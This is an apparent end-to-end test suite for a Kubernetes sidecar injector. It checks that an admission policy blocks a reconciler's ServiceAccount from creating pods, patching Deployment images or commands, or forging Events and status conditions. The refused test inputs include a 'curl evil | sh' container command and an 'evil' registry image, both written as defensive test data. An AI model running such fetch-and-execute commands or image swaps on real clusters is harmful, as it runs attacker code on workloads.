// npm run e2e: the reconciler's admission fence on a real kube-apiserver (envtest style). For each
// backend, the reconciler's objects as synthesized (`reconciler: { outdated: 'in-place' }`: its
// ServiceAccount, RBAC, and the ValidatingAdmissionPolicy and binding of its fence; with the policy
// backend the injector's MutatingAdmissionPolicies too) are created as they are. Then kubectl,
// impersonating the reconciler's ServiceAccount (`--as`), does what a leaked token would and what the
// reconciler does:
// - a pod create is refused with the fence's message; the same with --dry-run=server is admitted;
// - a Deployment's container image, command or template label patched: refused; the restart
//   annotations alone (the reconciler's own patch, and `kubectl rollout restart`): admitted;
// - in place, an app container's image refused; the injected container's image to another image
//   refused; to its configured image (the reconciler's own JSON Patch): admitted; the readiness gate's
//   condition admitted, the Ready condition refused.
// No kubelet, no controllers: pods stay Pending, which changes nothing for admission. With the webhook
// backend no webhook runs (its configuration is not created): the dry-run pod is admitted uninjected;
// the fence is what is tried here.
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import type { AdmissionPolicyApiVersion, InjectorBackend } from '../../charts/admission-policy';
import { RECONCILER_WRITES, annotationKeys, injectionHash, readinessConditionType, repairedForAnnotation } from '../../webhook/config';
import { inPlacePatch } from '../../webhook/fleet/in-place-plan';
import { REAL_CLOCK, podConditionPatch } from '../../webhook/fleet/cluster';
import { EventRecorder } from '../../webhook/reconciler/event-recorder';
import { probeInjection } from '../../webhook/reconciler/injection-probe';
import { KubeApiError, type KubeApi } from '../../webhook/kube-client/kube-api';
import { LeaderLease } from '../../webhook/reconciler/lease';
import { restartPatch } from '../../webhook/reconciler/workload-repairs';
import { Manifest, describeManifest, synthChart } from '../support/synth-helpers';
import { type CliRun, runProcessAsync } from '../support/cli-process';
import { ControlPlane, findBinaries } from './support/control-plane';
import { startPolicyServingPlane } from './support/policy-plane';

const binaries = findBinaries();
const skip = typeof binaries === 'string' ? binaries : false;
if (skip) console.log(`npm run e2e (reconciler fence) ${skip}`);

const PREFIX = 'sidecar-injector.io';
const KEYS = annotationKeys(PREFIX);
const ENVOY_OLD = 'envoyproxy/envoy:v1.31.0';
const ENVOY = 'envoyproxy/envoy:v1.31.1';
const RESTRICTED = { runAsNonRoot: true, allowPrivilegeEscalation: false, capabilities: { drop: ['ALL'] }, seccompProfile: { type: 'RuntimeDefault' } };
const envoy = (image: string) => ({ name: 'envoy', trigger: { type: 'always' as const }, readinessGate: true, containers: [{ name: 'envoy', image, securityContext: RESTRICTED }] });
const EVIL = 'registry.example/evil:latest';

let plane: ControlPlane | undefined;
let policyApiVersion: AdmissionPolicyApiVersion = 'v1';

before(async () => {
  if (skip) return;
  const bins = binaries as Exclude<typeof binaries, string>;
  let version: string;
  ({ plane, version, policyApiVersion } = await startPolicyServingPlane(bins));
  console.log(`kube-apiserver ${version}; the fence as admissionregistration.k8s.io/v1, the policies as ${policyApiVersion}`);
});

after(async () => {
  await plane?.stop();
});

/** kubectl as a process, asynchronously, with the admin kubeconfig of the test PKI. */
function kubectl(args: readonly string[], input?: string): Promise<CliRun> {
  return runProcessAsync('kubectl', ['--kubeconfig', plane!.kubeconfig, ...args], { stdin: input });
}
type Run = Awaited<ReturnType<typeof kubectl>>;
const shown = (run: Run) => `exit ${run.status}; stdout: ${run.stdout.trim()}; stderr: ${run.stderr.trim()}`;

/** What the test saw, printed for the record: the command and the apiserver's answer. */
function record(what: string, run: Run): Run {
  console.log(`  ${what}\n    -> ${run.status === 0 ? run.stdout.trim() : run.stderr.trim()}`);
  return run;
}

/** Resource paths by apiVersion and kind, from the apiserver's discovery documents. */
const discovered = new Map<string, { plural: string; namespaced: boolean }>();
async function collectionPath(object: Manifest): Promise<string> {
  const apiVersion: string = object.apiVersion;
  const base = apiVersion.includes('/') ? `/apis/${apiVersion}` : `/api/${apiVersion}`;
  if (!discovered.has(`${apiVersion}/${object.kind}`)) {
    for (const resource of (await plane!.ok('GET', base)).resources) {
      if (!resource.name.includes('/')) discovered.set(`${apiVersion}/${resource.kind}`, { plural: resource.name, namespaced: resource.namespaced });
    }
  }
  const resource = discovered.get(`${apiVersion}/${object.kind}`);
  if (!resource) throw new Error(`the apiserver serves no ${apiVersion}/${object.kind}`);
  return resource.namespaced ? `${base}/namespaces/${object.metadata.namespace}/${resource.plural}` : `${base}/${resource.plural}`;
}

/** The objects a reconciler's fence needs in the cluster, created as synthesized (strict field validation). */
async function createAsSynthesized(objects: readonly Manifest[]): Promise<void> {
  for (const object of objects) {
    const response = await plane!.request('POST', `${await collectionPath(object)}?fieldValidation=Strict`, object);
    // The namespace is shared by both backends' reconcilers.
    if (response.status === 409 && object.kind === 'Namespace') continue;
    assert.equal(response.status, 201, `${describeManifest(object)}: ${response.status} ${response.body?.message ?? JSON.stringify(response.body)}`);
  }
}

const RECONCILER_KINDS = ['Namespace', 'ServiceAccount', 'ClusterRole', 'ClusterRoleBinding', 'Role', 'RoleBinding', 'ValidatingAdmissionPolicy', 'ValidatingAdmissionPolicyBinding'];

for (const backend of ['webhook', 'admissionPolicy'] as const satisfies readonly InjectorBackend[]) {
  describe(`the reconciler's fence (backend ${backend})`, { skip }, () => {
    const name = `fence-${backend.toLowerCase()}`;
    const namespace = `apps-${backend.toLowerCase()}`;
    const user = `system:serviceaccount:sidecar-injector:${name}-reconciler`;
    const as = `--as=${user}`;
    let manifests: Manifest[] = [];
    let fenceName = '';

    before(async () => {
      if (skip) return;
      manifests = synthChart({ name, injections: [envoy(ENVOY)], reconciler: { outdated: 'in-place' }, backend, admissionPolicyApiVersion: policyApiVersion }).manifests;
      const fence = manifests.find((object) => object.kind === 'ValidatingAdmissionPolicy' && object.metadata.name.endsWith('-reconciler'))!;
      fenceName = fence.metadata.name;
      const wanted = manifests.filter((object) => RECONCILER_KINDS.includes(object.kind) && (!object.kind.startsWith('Validating') || object.metadata.name === fenceName));
      const policies = manifests.filter((object) => object.kind.startsWith('MutatingAdmissionPolicy'));
      await createAsSynthesized([...wanted, ...policies]);
      // Labelled as the injector's default namespaceSelector asks.
      await createAsSynthesized([{ apiVersion: 'v1', kind: 'Namespace', metadata: { name: namespace, labels: { injection: 'enabled' } } }]);
      await waitUntilFenced(as, fenceName);
      if (backend === 'admissionPolicy') await waitUntilInjecting(namespace);
    });

    test('the reconciler\'s own code, as its ServiceAccount: its Events, its Lease (created, renewed) and the dry-run probe pass; a forged Event does not', async () => {
      const api = impersonating(user);
      const events = new EventRecorder(api, REAL_CLOCK, `${name}-reconciler-0`);
      assert.equal(await events.record({ apiVersion: 'v1', kind: 'Pod', namespace, name: 'lonely' }, 'Warning', 'NotRepaired', 'envoy missing in 1 pod'), true, `its Event written (failures: ${events.failures})`);
      const forged = await plane!.request('POST', `/api/v1/namespaces/${namespace}/events`, { metadata: { name: 'forged' }, involvedObject: { kind: 'Pod', namespace, name: 'lonely' }, reason: 'Scheduled', message: 'x', source: { component: 'default-scheduler' }, reportingComponent: 'default-scheduler' }, 'application/json', { 'Impersonate-User': user });
      console.log(`  POST an Event as default-scheduler as ${user}\n    -> ${forged.status} ${forged.body?.message}`);
      assert.equal(forged.status, 403, forged.body?.message);
      assert.match(forged.body.message, /denied request: own-events-only: /);
      const lease = new LeaderLease(api, REAL_CLOCK, { namespace: 'sidecar-injector', name: `${name}-reconciler`, identity: `${name}-reconciler-0`, durationSeconds: 15 });
      assert.equal(await lease.tryAcquireOrRenew(), true, 'the Lease created');
      assert.equal(await lease.tryAcquireOrRenew(), true, 'the Lease renewed');
      const template = { metadata: { labels: { app: 'web' } }, spec: { containers: [{ name: 'app', image: 'registry.example/app:1.0' }] } };
      const why = await probeInjection(api, PREFIX, namespace, 'web', template, new Map([['envoy', injectionHash(envoy(ENVOY))]]));
      console.log(`  the dry-run probe as ${user}\n    -> ${why ?? 'the pod would carry envoy as configured'}`);
      // With the webhook backend no webhook runs here: admitted, but uninjected. Never refused by the fence.
      if (backend === 'admissionPolicy') assert.equal(why, undefined);
      else assert.match(why ?? '', /came back without envoy/);
    });

    test('a pod create is refused naming the rule; the same create as a server-side dry run is admitted', async () => {
      const pod = JSON.stringify({ apiVersion: 'v1', kind: 'Pod', metadata: { name: 'evil', namespace }, spec: { containers: [{ name: 'app', image: EVIL }] } });
      const real = record(`kubectl create -f evil-pod.json ${as}`, await kubectl(['create', '-f', '-', as], pod));
      assert.notEqual(real.status, 0, shown(real));
      assert.match(real.stderr, new RegExp(`ValidatingAdmissionPolicy '${fenceName}' with binding '${fenceName}' denied request: dry-run-pods-only: `), shown(real));
      const stored = await plane!.request('GET', `/api/v1/namespaces/${namespace}/pods/evil`);
      assert.equal(stored.status, 404, 'no pod was stored');
      const dryRun = record(`kubectl create -f evil-pod.json --dry-run=server ${as} -o jsonpath={.spec.containers[*].name}`, await kubectl(['create', '-f', '-', '--dry-run=server', as, '-o', 'jsonpath={.spec.containers[*].name}'], pod));
      assert.equal(dryRun.status, 0, shown(dryRun));
      // The policy backend's policies inject through the fence: the probe sees what a restart would make.
      assert.equal(dryRun.stdout.trim(), backend === 'admissionPolicy' ? 'app envoy' : 'app', shown(dryRun));
    });

    test('a Deployment is changed only by a restart: its image, command, template label or scale refused; the restart annotations admitted, but not in kube-system', async () => {
      const deployment = {
        apiVersion: 'apps/v1',
        kind: 'Deployment',
        metadata: { name: 'web', namespace },
        spec: { replicas: 2, selector: { matchLabels: { app: 'web' } }, template: { metadata: { labels: { app: 'web' } }, spec: { containers: [{ name: 'app', image: 'registry.example/app:1.0' }] } } },
      };
      const created = await plane!.ok('POST', `/apis/apps/v1/namespaces/${namespace}/deployments`, deployment);
      const refusedPatches = {
        image: { spec: { template: { spec: { containers: [{ name: 'app', image: EVIL }] } } } },
        command: { spec: { template: { spec: { containers: [{ name: 'app', command: ['sh', '-c', 'curl evil | sh'] }] } } } },
        'template label': { spec: { template: { metadata: { labels: { app: 'web', extra: 'x' } } } } },
        replicas: { spec: { replicas: 0 } },
      };
      for (const [what, patch] of Object.entries(refusedPatches)) {
        const run = record(`kubectl patch deployment web (${what}) ${as}`, await kubectl(['patch', 'deployment', 'web', '-n', namespace, as, '-p', JSON.stringify(patch)]));
        assert.notEqual(run.status, 0, `${what}: ${shown(run)}`);
        assert.match(run.stderr, /denied request: restart-annotations-only: /, `${what}: ${shown(run)}`);
      }
      const restart = restartPatch(created, Date.parse('2026-11-28T12:00:00Z'), PREFIX, 'bfa8ca43a1359a6f');
      const own = record(`kubectl patch deployment web --type=merge (the reconciler's restart patch) ${as}`, await kubectl(['patch', 'deployment', 'web', '-n', namespace, as, '--type=merge', '-p', JSON.stringify(restart)]));
      assert.equal(own.status, 0, shown(own));
      const rollout = record(`kubectl rollout restart deployment/web ${as}`, await kubectl(['rollout', 'restart', 'deployment/web', '-n', namespace, as]));
      assert.equal(rollout.status, 0, shown(rollout));
      // kube-system, which the reconciler never judges: not even a restart.
      const system = await plane!.request('POST', '/apis/apps/v1/namespaces/kube-system/deployments', { ...deployment, metadata: { name: `coredns-${backend.toLowerCase()}`, namespace: 'kube-system' } });
      assert.equal(system.status, 201, system.body?.message);
      const systemRestart = record(`kubectl rollout restart deployment/coredns-${backend.toLowerCase()} -n kube-system ${as}`, await kubectl(['rollout', 'restart', `deployment/coredns-${backend.toLowerCase()}`, '-n', 'kube-system', as]));
      assert.notEqual(systemRestart.status, 0, shown(systemRestart));
      assert.match(systemRestart.stderr, /denied request: excluded-namespaces: /, shown(systemRestart));
      const stored = await plane!.ok('GET', `/apis/apps/v1/namespaces/${namespace}/deployments/web`);
      assert.equal(stored.spec.template.metadata.annotations[repairedForAnnotation(PREFIX)], 'bfa8ca43a1359a6f');
      assert.ok(stored.spec.template.metadata.annotations[RECONCILER_WRITES.restartedAtAnnotation]);
      assert.deepEqual(stored.spec.template.spec.containers.map((container: any) => container.image), ['registry.example/app:1.0'], 'the image as created');
      assert.equal(stored.spec.replicas, 2);
    });

    test('in place: an app container\'s image and another sidecar image refused; the configured sidecar image and the readiness gate admitted', async () => {
      // A pod as the injector admitted it under the previous Envoy (its status and hashes annotations).
      await plane!.ok('POST', `/api/v1/namespaces/${namespace}/pods`, {
        apiVersion: 'v1',
        kind: 'Pod',
        metadata: { name: 'injected', namespace, annotations: { [KEYS.status]: 'envoy', [KEYS.hashes]: `envoy=${injectionHash(envoy(ENVOY_OLD))}` } },
        spec: { readinessGates: [{ conditionType: readinessConditionType(PREFIX) }], containers: [{ name: 'app', image: 'registry.example/app:1.0' }, { name: 'envoy', image: ENVOY_OLD }] },
      });
      const patchAs = async (what: string, type: 'json' | 'strategic', patch: unknown, subresource?: string) =>
        record(
          `kubectl patch pod injected --type=${type}${subresource ? ` --subresource=${subresource}` : ''} (${what}) ${as}`,
          await kubectl(['patch', 'pod', 'injected', '-n', namespace, as, `--type=${type}`, ...(subresource ? [`--subresource=${subresource}`] : []), '-p', JSON.stringify(patch)]),
        );
      const app = await patchAs('the app container to evil', 'json', [{ op: 'replace', path: '/spec/containers/0/image', value: EVIL }]);
      assert.notEqual(app.status, 0, shown(app));
      assert.match(app.stderr, /denied request: sidecar-images-only: /, shown(app));
      const other = await patchAs('envoy to evil', 'json', [{ op: 'replace', path: '/spec/containers/1/image', value: EVIL }]);
      assert.match(other.stderr, /denied request: sidecar-images-only: /, shown(other));
      const label = await patchAs('a label', 'json', [{ op: 'add', path: '/metadata/labels', value: { team: 'evil' } }]);
      assert.match(label.stderr, /denied request: sidecar-images-only: /, shown(label));

      // The reconciler's own requests: the readiness gate False, the guarded image patch, the gate True.
      // The reconciler's pods/status patches, as its client sends them (kubectl would GET pods/status first,
      // which its RBAC does not grant): the apiserver's client, impersonating its ServiceAccount.
      const statusAs = async (what: string, patch: unknown) => {
        const response = await plane!.request('PATCH', `/api/v1/namespaces/${namespace}/pods/injected/status`, patch, 'application/strategic-merge-patch+json', { 'Impersonate-User': user });
        console.log(`  PATCH pods/injected/status (${what}) as ${user}\n    -> ${response.status} ${response.status === 200 ? JSON.stringify(response.body.status.conditions) : response.body?.message}`);
        return response;
      };
      const gate = podConditionPatch({ type: readinessConditionType(PREFIX), status: 'False', reason: 'SidecarUpgrade', message: 'the reconciler replaces a sidecar image' });
      const drain = await statusAs('the reconciler\'s patch: its readiness gate False', gate);
      assert.equal(drain.status, 200, drain.body?.message);
      const ready = await statusAs('the Ready condition', { status: { conditions: [{ type: 'Ready', status: 'True' }] } });
      assert.equal(ready.status, 403, ready.body?.message);
      assert.match(ready.body.message, /denied request: readiness-gate-only: /);
      const change = { injection: 'envoy', container: 'envoy', list: 'containers' as const, index: 1, from: ENVOY_OLD, to: ENVOY, nativeSidecar: false };
      // Read again, as the reconciler does: its patch tests the resourceVersion, which the status write moved.
      const current = await plane!.ok('GET', `/api/v1/namespaces/${namespace}/pods/injected`);
      const upgrade = await patchAs('the reconciler\'s in-place patch: envoy to its configured image', 'json', inPlacePatch(current, { changes: [change], hashesAfter: `envoy=${injectionHash(envoy(ENVOY))}` }, PREFIX));
      assert.equal(upgrade.status, 0, shown(upgrade));
      const stored = await plane!.ok('GET', `/api/v1/namespaces/${namespace}/pods/injected`);
      assert.deepEqual(stored.spec.containers.map((container: any) => container.image), ['registry.example/app:1.0', ENVOY]);
      assert.equal(stored.metadata.annotations[KEYS.hashes], `envoy=${injectionHash(envoy(ENVOY))}`);
    });
  });
}

/**
 * Waits until the apiserver enforces the fence (it loads policies asynchronously): a dry-run create of a
 * Lease the reconciler does not hold, which its RBAC allows and the fence refuses, and which stores nothing.
 */
async function waitUntilFenced(as: string, fenceName: string): Promise<void> {
  const lease = JSON.stringify({ apiVersion: 'coordination.k8s.io/v1', kind: 'Lease', metadata: { name: 'not-its-lease', namespace: 'sidecar-injector' } });
  const deadline = Date.now() + 60_000;
  let last: Run | undefined;
  while (Date.now() < deadline) {
    last = await kubectl(['create', '-f', '-', '--dry-run=server', as], lease);
    if (last.status !== 0 && last.stderr.includes(`ValidatingAdmissionPolicy '${fenceName}' with binding '${fenceName}' denied request: own-lease-only: `)) return;
    await new Promise((resolve) => setTimeout(resolve, 500));
  }
  throw new Error(`the fence ${fenceName} was not enforced within 60 s (last: ${last && shown(last)})`);
}

/** Waits until the policies inject pods in `namespace` (the apiserver loads them asynchronously): a dry-run create as the admin. */
async function waitUntilInjecting(namespace: string): Promise<void> {
  const pod = { apiVersion: 'v1', kind: 'Pod', metadata: { name: 'probe', namespace }, spec: { containers: [{ name: 'app', image: 'registry.example/app:1.0' }] } };
  const deadline = Date.now() + 60_000;
  let last = '';
  while (Date.now() < deadline) {
    const response = await plane!.request('POST', `/api/v1/namespaces/${namespace}/pods?dryRun=All`, pod);
    if (response.status === 201 && response.body.spec.containers.some((container: any) => container.name === 'envoy')) return;
    last = `${response.status} ${response.body?.message ?? JSON.stringify(response.body.spec?.containers?.map((container: any) => container.name))}`;
    await new Promise((resolve) => setTimeout(resolve, 500));
  }
  throw new Error(`namespace ${namespace}: no injection within 60 s (last: ${last})`);
}

/** The reconciler's KubeApi over the apiserver's client, impersonating `user` (the admin may). */
function impersonating(user: string): KubeApi {
  return {
    async request(method, path, request = {}) {
      const query = new URLSearchParams(Object.entries(request.query ?? {}).filter((entry): entry is [string, string] => entry[1] !== undefined)).toString();
      const contentType = request.contentType ?? (method === 'PATCH' ? 'application/merge-patch+json' : 'application/json');
      const response = await plane!.request(method, query ? `${path}?${query}` : path, request.body, contentType, { 'Impersonate-User': user });
      if (response.status >= 200 && response.status < 300) return response.body;
      throw new KubeApiError(response.status, response.body?.reason ?? `HTTP ${response.status}`, `${method} ${path}: ${response.status} ${response.body?.message ?? ''}`);
    },
  };
}
